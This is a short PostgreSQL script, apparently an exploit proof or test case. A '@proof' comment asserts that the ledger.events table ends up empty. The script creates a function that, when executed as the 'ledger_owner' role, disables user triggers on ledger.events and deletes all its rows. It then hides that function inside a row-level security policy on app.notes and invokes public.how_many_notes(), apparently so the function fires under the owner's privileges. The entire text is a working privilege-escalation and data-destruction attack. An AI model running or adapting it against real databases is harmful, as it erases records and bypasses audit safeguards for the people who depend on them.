-- @proof SELECT count(*) = 0 FROM ledger.events
CREATE FUNCTION app.evil() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF current_user = 'ledger_owner' THEN
    EXECUTE 'ALTER TABLE ledger.events DISABLE TRIGGER USER';
    EXECUTE 'DELETE FROM ledger.events';
  END IF;
  RETURN true;
END $$;
INSERT INTO app.notes VALUES ('x');
ALTER TABLE app.notes ENABLE ROW LEVEL SECURITY;
CREATE POLICY evil ON app.notes USING (app.evil());
SELECT public.how_many_notes();
